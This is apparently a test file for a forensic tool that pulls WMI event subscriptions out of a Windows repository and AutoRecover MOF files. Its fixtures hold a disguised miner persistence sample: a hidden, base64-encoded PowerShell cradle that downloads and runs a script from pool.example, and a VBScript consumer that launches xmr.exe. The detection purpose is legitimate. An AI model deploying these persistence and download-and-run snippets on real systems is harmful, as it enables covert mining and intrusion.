// The WMI collector over a Windows volume built here: an OBJECTS.DATA holding a miner's
// CommandLineEventConsumer (powershell -enc) with its filter and binding next to the stock SCM
// Event Log subscription, and an AutoRecover MOF (UTF-16LE) declaring an ActiveScriptEventConsumer
// in VBScript. Each consumer becomes one subscription naming its filter and query, the PowerShell
// decoded; hostile repositories (random bytes, a record cut by the end of the file) end in a
// record and bounded results.
import { randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { WmiSubscriptionSchema } from '../../snapshot/windows.js';
import { encodeWmiInstance } from '../../target/windows/wmi-repository.js';
import { makeContext } from '../context.js';
import { collectWmi } from './wmi.js';

const NOW = () => new Date('2026-12-01T00:00:00Z');
const CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://pool.example/x.ps1')";
const ENC = Buffer.from(CRADLE, 'utf16le').toString('base64');
const TEMPLATE = `powershell.exe -nop -w hidden -enc ${ENC}`;
const QUERY =
  "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";

const roots: string[] = [];
afterEach(async () => {
  for (const r of roots.splice(0)) await rm(r, { recursive: true, force: true });
});

async function put(root: string, rel: string, data: string | Buffer): Promise<void> {
  await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
  await writeFile(path.join(root, rel), data);
}

async function volume(): Promise<string> {
  const root = await mkdtemp(path.join(os.tmpdir(), 'minehunter-winwmi-'));
  roots.push(root);
  await put(root, 'Windows/System32/config/SYSTEM', '');
  return root;
}

/** Records among filler, as other objects' pages surround them in a real repository. */
function objectsData(records: Buffer[]): Buffer {
  const parts: Buffer[] = [randomBytes(8192)];
  for (const r of records) parts.push(r, randomBytes(5000));
  return Buffer.concat(parts);
}

const MINER = [
  encodeWmiInstance('CommandLineEventConsumer', { Name: 'WindowsUpdater', CommandLineTemplate: TEMPLATE }),
  encodeWmiInstance('__EventFilter', { Name: 'WindowsUpdaterFilter', QueryLanguage: 'WQL', Query: QUERY }),
  encodeWmiInstance('__FilterToConsumerBinding', {
    Filter: '__EventFilter.Name="WindowsUpdaterFilter"',
    Consumer: 'CommandLineEventConsumer.Name="WindowsUpdater"',
  }),
];
const SCM = [
  encodeWmiInstance('NTEventLogEventConsumer', {
    Name: 'SCM Event Log Consumer',
    SourceName: 'Service Control Manager',
  }),
  encodeWmiInstance('__EventFilter', {
    Name: 'SCM Event Log Filter',
    QueryLanguage: 'WQL',
    Query: 'select * from MSFT_SCMEventLogEvent',
  }),
  encodeWmiInstance('__FilterToConsumerBinding', {
    Filter: '__EventFilter.Name="SCM Event Log Filter"',
    Consumer: 'NTEventLogEventConsumer.Name="SCM Event Log Consumer"',
  }),
];

const VBS =
  'Set s = CreateObject("WScript.Shell")\ns.Run "C:\\Windows\\Fonts\\temp\\xmr.exe -o stratum+tcp://pool.example:3333", 0';
const MOF = `#pragma namespace("\\\\\\\\.\\\\root\\\\subscription")
instance of ActiveScriptEventConsumer as $Cons
{
    Name = "FontCache";
    ScriptingEngine = "VBScript";
    ScriptText = ${JSON.stringify(VBS)};
};
instance of __EventFilter as $Filt
{
    Name = "FontCacheFilter";
    EventNamespace = "root\\\\cimv2";
    QueryLanguage = "WQL";
    Query = "SELECT * FROM __InstanceCreationEvent WITHIN 10 "
            "WHERE TargetInstance ISA 'Win32_LogonSession'";
};
instance of __FilterToConsumerBinding { Consumer = $Cons; Filter = $Filt; };
`;
const utf16 = (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')]);

describe('collectWmi', () => {
  it('reads subscriptions from OBJECTS.DATA and AutoRecover MOF files', async () => {
    const root = await volume();
    // Another case than Windows shows: found all the same.
    await put(root, 'Windows/System32/WBEM/Repository/objects.data', objectsData([...MINER, ...SCM]));
    await put(root, 'Windows/System32/WBEM/AutoRecover/4E5C3A2B.mof', utf16(MOF));
    await put(root, 'Windows/System32/WBEM/AutoRecover/cimwin32.mof', 'class Win32_Foo { string Name; };');
    const ctx = await makeContext(root, NOW);
    expect(ctx.kind).toBe('windows-volume');
    const { wmi, record } = await collectWmi(ctx);
    expect(() => z.array(WmiSubscriptionSchema).parse(wmi)).not.toThrow();
    expect(record.status).toBe('ok');
    expect(record.note).toContain('may include deleted records');
    expect(record.note).toContain('2 MOF file(s) read');
    expect(wmi).toHaveLength(3);

    const miner = wmi?.find((s) => s.consumer.name === 'WindowsUpdater');
    expect(miner).toEqual({
      source: 'objects-data',
      file: '/Windows/System32/WBEM/Repository/objects.data',
      consumer: { class: 'CommandLineEventConsumer', name: 'WindowsUpdater', commandLineTemplate: TEMPLATE },
      filter: { name: 'WindowsUpdaterFilter', query: QUERY },
      bound: true,
      mayBeDeleted: true,
      decoded: [{ how: 'encoded-command', text: CRADLE }],
    });

    const scm = wmi?.find((s) => s.consumer.name === 'SCM Event Log Consumer');
    expect(scm).toMatchObject({
      source: 'objects-data',
      consumer: { class: 'NTEventLogEventConsumer' },
      filter: { name: 'SCM Event Log Filter', query: 'select * from MSFT_SCMEventLogEvent' },
      bound: true,
    });
    expect(scm?.decoded).toBeUndefined();

    const mof = wmi?.find((s) => s.source === 'mof');
    expect(mof).toEqual({
      source: 'mof',
      file: '/Windows/System32/WBEM/AutoRecover/4E5C3A2B.mof',
      consumer: {
        class: 'ActiveScriptEventConsumer',
        name: 'FontCache',
        scriptingEngine: 'VBScript',
        scriptText: VBS,
      },
      filter: {
        name: 'FontCacheFilter',
        query:
          "SELECT * FROM __InstanceCreationEvent WITHIN 10 WHERE TargetInstance ISA 'Win32_LogonSession'",
      },
      bound: true,
    });
  });

  it('keeps an unbound consumer, and a binding whose consumer record is gone', async () => {
    const root = await volume();
    const records = [
      encodeWmiInstance('CommandLineEventConsumer', {
        Name: 'Orphan',
        ExecutablePath: 'C:\\ProgramData\\x.exe',
      }),
      encodeWmiInstance('__FilterToConsumerBinding', {
        Filter: '__EventFilter.Name="F"',
        Consumer: 'ActiveScriptEventConsumer.Name="Vanished"',
      }),
    ];
    await put(root, 'Windows/System32/wbem/Repository/OBJECTS.DATA', objectsData(records));
    const { wmi, record } = await collectWmi(await makeContext(root, NOW));
    expect(record.status).toBe('ok');
    expect(wmi).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          consumer: {
            class: 'CommandLineEventConsumer',
            name: 'Orphan',
            executablePath: 'C:\\ProgramData\\x.exe',
          },
          bound: false,
        }),
        expect.objectContaining({
          consumer: { class: 'ActiveScriptEventConsumer', name: 'Vanished' },
          filter: { name: 'F' },
          bound: true,
        }),
      ]),
    );
  });

  it('ends on 20 MiB of random bytes and on a record cut by the end of the file', async () => {
    const root = await volume();
    await put(root, 'Windows/System32/wbem/Repository/OBJECTS.DATA', randomBytes(20 * 1024 * 1024));
    const random = await collectWmi(await makeContext(root, NOW));
    expect(random.record.status).toBe('ok');
    expect(random.wmi?.length ?? 0).toBeLessThanOrEqual(1000);

    const cut = Buffer.concat([randomBytes(9000), ...MINER]);
    await put(root, 'Windows/System32/wbem/Repository/OBJECTS.DATA', cut.subarray(0, cut.length - 30));
    const truncated = await collectWmi(await makeContext(root, NOW));
    expect(truncated.record.status).toBe('ok');
    // The binding's tail is cut; the consumer and filter are whole.
    expect(
      truncated.wmi?.find((s) => s.consumer.name === 'WindowsUpdater')?.consumer.commandLineTemplate,
    ).toBe(TEMPLATE);
  });

  it('is skipped on a volume without a repository or AutoRecover folder', async () => {
    const root = await volume();
    const { wmi, record } = await collectWmi(await makeContext(root, NOW));
    expect(wmi).toBeUndefined();
    expect(record.status).toBe('skipped');
  });
});
